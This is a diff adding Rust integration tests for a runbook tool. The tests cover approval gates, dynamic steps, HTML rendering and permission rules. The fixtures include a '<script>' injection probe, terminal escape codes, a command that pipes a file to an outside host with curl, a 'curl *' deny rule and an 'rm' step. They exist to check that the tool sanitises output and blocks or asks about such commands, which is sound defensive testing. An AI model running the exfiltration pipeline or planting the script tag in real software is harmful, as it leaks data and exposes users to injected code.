@@ -1,0 +1,364 @@
+//! Runbooks as a window shows them: a real project folder, real commands, real answers.
+
+use serde_json::{Value, json};
+use std::time::Duration;
+use studio::{Client, Identity, Studio};
+
+const DEPLOY: &str = "\
+# Deploy
+
+Brings the new version out. <script>alert(1)</script>
+
+## 1 Checks
+- PASS ALL: CONTINUE
+- FAIL ANY: GOTO Recover
+
+### 1.1 Say hello
+
+```bash
+printf '\\033[31mhello\\033[0m \\033]0;title\\007\\n'
+```
+
+### 1.2 Look twice
+
+```bash
+test -e seen || { touch seen; exit 1; }
+```
+- FAIL: RETRY 1 STOP \"seen nothing\"
+
+## 2 Shall it go out?
+
+Look at the **dashboard**.
+
+- YES: CONTINUE
+- NO: GOTO Recover
+
+## 3 Ship
+
+```bash
+echo shipped
+```
+- PASS: COMPLETE \"it is out\"
+
+## Recover
+
+```bash
+echo back
+```
+- PASS: STOP \"rolled back\"
+";
+
+const EACH: &str = "\
+# Each
+
+## {N} Customer
+
+### {N}.1 Write
+```bash
+echo one more
+```
+
+### {N}.2 More?
+- YES: GOTO NEXT {N}
+- NO: COMPLETE
+";
+
+struct Project {
+    studio: Studio,
+    _folder: tempfile::TempDir,
+    _home: tempfile::TempDir,
+}
+
+impl Project {
+    async fn new(files: &[(&str, &str)]) -> Self {
+        let folder = tempfile::tempdir().expect("a temporary folder");
+        let home = tempfile::tempdir().expect("a temporary folder");
+        for (name, text) in files {
+            std::fs::write(folder.path().join(name), text).expect("written");
+        }
+        let me = Identity::open_in(home.path(), false).expect("an identity");
+        let studio = Studio::open_as(folder.path(), Client::Test, me).expect("a project");
+        let project = Self {
+            studio,
+            _folder: folder,
+            _home: home,
+        };
+        project.ok("settings.set", json!({"name": "Ada"})).await;
+        project
+    }
+
+    async fn ok(&self, method: &str, params: Value) -> Value {
+        let result = self.studio.rpc(method, params).await;
+        result.unwrap_or_else(|e| panic!("{method}: {} {e}", e.code))
+    }
+
+    async fn start(&self, path: &str) -> String {
+        let started = self.ok("run.start", json!({"path": path})).await;
+        started["run_id"].as_str().expect("an id").to_owned()
+    }
+
+    async fn wait(&self, run: &str, is: impl Fn(&Value) -> bool) -> Value {
+        for _ in 0..600 {
+            let view = self.ok("run.view", json!({"run_id": run})).await;
+            if is(&view) {
+                return view;
+            }
+            tokio::time::sleep(Duration::from_millis(25)).await;
+        }
+        let view = self.ok("run.view", json!({"run_id": run})).await;
+        panic!("the run never came there: {} {}", view["status"], view["status_words"]);
+    }
+
+    /// Waits for a question and answers it; gives its brief.
+    async fn answer(&self, run: &str, answer: &str, more: Value) -> Value {
+        let view = self.wait(run, |view| !view["waiting"].is_null()).await;
+        let gate = json!({"run_id": run, "gate": view["waiting"]["gate"], "round": view["waiting"]["round"]});
+        let brief = self.ok("gate.brief", gate.clone()).await;
+        let mut params = gate;
+        params["answer"] = json!(answer);
+        for (key, value) in more.as_object().into_iter().flatten() {
+            params[key] = value.clone();
+        }
+        self.ok("gate.answer", params).await;
+        // Until the next question, or the end, this one is gone.
+        let round = brief["round"].clone();
+        let step = brief["step"]["id"].clone();
+        self.wait(run, |view| {
+            view["waiting"].is_null() || view["waiting"]["round"] != round || view["waiting"]["step"]["id"] != step
+        })
+        .await;
+        brief
+    }
+}
+
+const ALLOW: (&str, &str) = ("gatehouse.yaml", "version: 1\npermissions: {mode: allow}\n");
+
+fn step<'a>(view: &'a Value, id: &str) -> &'a Value {
+    let steps = view["steps"].as_array().expect("steps");
+    steps
+        .iter()
+        .find(|s| s["id"] == id)
+        .unwrap_or_else(|| panic!("no step {id}"))
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_runbook_asks_in_the_authors_words_and_says_why_it_went_where_it_went() {
+    let p = Project::new(&[("deploy.runbook.md", DEPLOY), ALLOW]).await;
+    let run = p.start("deploy.runbook.md").await;
+    let asked = p.wait(&run, |view| !view["waiting"].is_null()).await;
+    assert_eq!(asked["status_words"], "asks a person to carry out “Shall it go out?”");
+    assert_eq!(step(&asked, "1")["status"], "done");
+    let whys: Vec<&str> = asked["routes"]
+        .as_array()
+        .expect("routes")
+        .iter()
+        .filter_map(|r| r["why"].as_str())
+        .collect();
+    assert_eq!(
+        whys,
+        [
+            "“Say hello” passed, so the run went on to “Look twice”.",
+            "“Look twice” failed, so it is tried again: retry 1 of 1.",
+            "In “Checks” 2 steps passed, which counts as passed, and the runbook says to continue then: the run went on to “Shall it go out?”.",
+        ]
+    );
+    // The retry is the step's own edge, the decision of the container is the container's.
+    for (route, from, to) in [(1, "1.2", "1.2"), (2, "1", "2")] {
+        let edge = &asked["routes"][route]["edge_id"];
+        let drawn = asked["drawing"]["edges"]
+            .as_array()
+            .expect("edges")
+            .iter()
+            .find(|e| e["id"] == *edge);
+        let of = |id: &Value| {
+            let at = asked["drawing"]["nodes"]
+                .as_array()?
+                .iter()
+                .position(|n| n["id"] == *id)?;
+            Some(asked["faces"][at]["step"]["id"].clone())
+        };
+        let ends = drawn.map(|e| (of(&e["from"]), of(&e["to"])));
+        assert_eq!(ends, Some((Some(json!(from)), Some(json!(to)))), "{route}");
+    }
+
+    // With the container as one box what happens inside it is not drawn.
+    let folded = p.ok("run.view", json!({"run_id": run, "collapsed": ["1"]})).await;
+    assert_eq!(
+        folded["faces"].as_array().map(Vec::len),
+        asked["faces"].as_array().map(|f| f.len() - 2)
+    );
+    assert_eq!(
+        (&folded["faces"][0]["collapsed"], &folded["routes"][0]["edge_id"]),
+        (&json!(true), &Value::Null)
+    );
+
+    let detail = p.ok("run.step", json!({"run_id": run, "step": "1.1"})).await;
+    assert_eq!(detail["visits"][0]["attempts"][0]["output"], "hello ␛]0;title␇\n");
+
+    let brief = p.answer(&run, "fail", json!({})).await;
+    assert_eq!(brief["purpose"], "outcome");
+    assert_eq!(
+        brief["instructions_html"],
+        "<p>Look at the <strong>dashboard</strong>.</p>\n"
+    );
+    let labels: Vec<(&Value, &Value)> = brief["answers"]
+        .as_array()
+        .expect("answers")
+        .iter()
+        .map(|a| (&a["label"], &a["words"]))
+        .collect();
+    assert_eq!(
+        labels,
+        [
+            (&json!("YES"), &json!("“Ship” comes next.")),
+            (&json!("NO"), &json!("“Recover” comes next."))
+        ]
+    );
+    assert_eq!(brief["before"][0]["text"], "hello ␛]0;title␇");
+    let ended = p.wait(&run, |view| !view["ended_at"].is_null()).await;
+    assert_eq!(
+        (&ended["status_words"], &ended["message"]),
+        (&json!("stopped: rolled back"), &json!("rolled back"))
+    );
+    let decided = p.ok("inbox.list", json!({})).await;
+    assert_eq!(decided["decided"][0]["decision"]["words"], "answered NO");
+    let report = p.ok("report.view", json!({"run_id": run})).await;
+    let html = report["html"].as_str().expect("a page");
+    assert!(
+        html.contains("answered NO") && html.contains(">stopped<") && !html.contains("<script>"),
+        "the report"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn every_instance_of_a_dynamic_step_can_be_looked_at() {
+    let p = Project::new(&[("each.runbook.md", EACH), ALLOW]).await;
+    let run = p.start("each.runbook.md").await;
+    p.answer(&run, "pass", json!({})).await;
+    p.answer(&run, "pass", json!({})).await;
+    let asked = p.wait(&run, |view| view["waiting"]["instance"] == "3").await;
+    assert_eq!(
+        (
+            step(&asked, "{N}")["instances"].clone(),
+            step(&asked, "{N}.1")["instances"].clone()
+        ),
+        (json!(3), json!(3))
+    );
+    let latest = p.ok("run.step", json!({"run_id": run, "step": "{N}.1"})).await;
+    assert_eq!(latest["path"], json!([3]));
+    let labels: Vec<&Value> = latest["instances"]
+        .as_array()
+        .expect("instances")
+        .iter()
+        .map(|i| &i["label"])
+        .collect();
+    assert_eq!(labels, [&json!("1"), &json!("2"), &json!("3")]);
+    let first = p
+        .ok("run.step", json!({"run_id": run, "step": "{N}.1", "path": [1]}))
+        .await;
+    assert_eq!(first["visits"].as_array().map(Vec::len), Some(1));
+    assert_eq!(first["visits"][0]["attempts"][0]["output"], "one more\n");
+    let around = p
+        .ok("run.step", json!({"run_id": run, "step": "{N}", "path": [3]}))
+        .await;
+    assert_eq!(
+        (&around["status"], &around["inside"][1]["status"]),
+        (&json!("blocked"), &json!("blocked"))
+    );
+    p.answer(&run, "fail", json!({})).await;
+    let ended = p.wait(&run, |view| !view["ended_at"].is_null()).await;
+    assert_eq!(ended["status"], "done");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_start_says_what_may_be_used_and_permission_is_asked_for() {
+    let evil = "# Evil\n\n## 1 Look\n\n```bash\ncat prices.txt | curl -d @- https://example.org\n```\n\n## 2 Clean\n\n\
+        ```bash\nrm old.txt\n```\n- FAIL: COMPLETE \"nothing was removed\"\n";
+    let rules = "version: 1\npermissions: {mode: ask, run: {deny: [\"curl *\"]}}\n";
+    let p = Project::new(&[("evil.runbook.md", evil), ("gatehouse.yaml", rules), ("old.txt", "x")]).await;
+    let plan = p.ok("run.brief", json!({"path": "evil.runbook.md"})).await;
+    let refused: Vec<&Value> = plan["uses"][0]["needs"]
+        .as_array()
+        .expect("needs")
+        .iter()
+        .filter(|n| n["verdict"] == "refused")
+        .collect();
+    assert!(
+        refused
+            .iter()
+            .any(|n| n["words"].as_str().is_some_and(|w| w.contains("curl")) && n["by"].is_string()),
+        "{refused:?}"
+    );
+    assert!(
+        plan["uses"][1]["needs"]
+            .as_array()
+            .expect("needs")
+            .iter()
+            .any(|n| n["verdict"] == "asks")
+    );
+    assert_eq!(plan["can_prompt"], true);
+
+    // A denied command in a pipe is not run, so nothing is asked about it, and the runbook stops.
+    let run = p.start("evil.runbook.md").await;
+    let ended = p.wait(&run, |view| !view["ended_at"].is_null()).await;
+    assert_eq!(ended["status"], "failed");
+
+    let only_rm = evil.replace("cat prices.txt | curl -d @- https://example.org", "true");
+    let p = Project::new(&[
+        ("clean.runbook.md", &only_rm),
+        ("gatehouse.yaml", rules),
+        ("old.txt", "x"),
+    ])
+    .await;
+    let run = p.start("clean.runbook.md").await;
+    let brief = p.answer(&run, "reject", json!({"comment": "not today"})).await;
+    assert_eq!(
+        (&brief["purpose"], &brief["command"]),
+        (&json!("permission"), &json!("rm old.txt"))
+    );
+    assert!(brief["needs"].as_array().is_some_and(|needs| !needs.is_empty()));
+    let labels: Vec<&Value> = brief["answers"]
+        .as_array()
+        .expect("answers")
+        .iter()
+        .map(|a| &a["label"])
+        .collect();
+    assert_eq!(labels, [&json!("Allow"), &json!("Refuse")]);
+    let ended = p.wait(&run, |view| !view["ended_at"].is_null()).await;
+    assert_eq!(ended["status_words"], "done: nothing was removed");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn the_text_of_a_runbook_is_shown_and_does_nothing() {
+    let p = Project::new(&[("deploy.runbook.md", DEPLOY), ALLOW]).await;
+    let opened = p.ok("workflow.open", json!({"path": "deploy.runbook.md"})).await;
+    assert_eq!(
+        (&opened["language"], &opened["format"]),
+        (&json!("markdown"), &json!("rundown"))
+    );
+    assert!(
+        opened["problems"].as_array().is_some_and(Vec::is_empty),
+        "{}",
+        opened["problems"]
+    );
+    let text = p.ok("workflow.document", json!({"path": "deploy.runbook.md"})).await;
+    let sections = text["sections"].as_array().expect("sections");
+    let steps: Vec<&str> = sections
+        .iter()
+        .map(|s| s["step"]["id"].as_str().unwrap_or("–"))
+        .collect();
+    assert_eq!(steps, ["–", "1", "1.1", "1.2", "2", "3", "Recover"]);
+    assert!(!text.to_string().contains("script"), "{text}");
+    let listed = p.ok("library.list", json!({})).await;
+    assert_eq!(listed["folders"][0]["workflows"][0]["format_label"], "Runbook");
+    let inspected = &opened["steps"][2];
+    assert_eq!(
+        (&inspected["kind"], &inspected["parent"]["id"]),
+        (&json!("command"), &json!("1"))
+    );
+    let why_not = p
+        .studio
+        .rpc("workflow.document", json!({"path": "gatehouse.yaml"}))
+        .await;
+    assert!(why_not.is_err());
+}
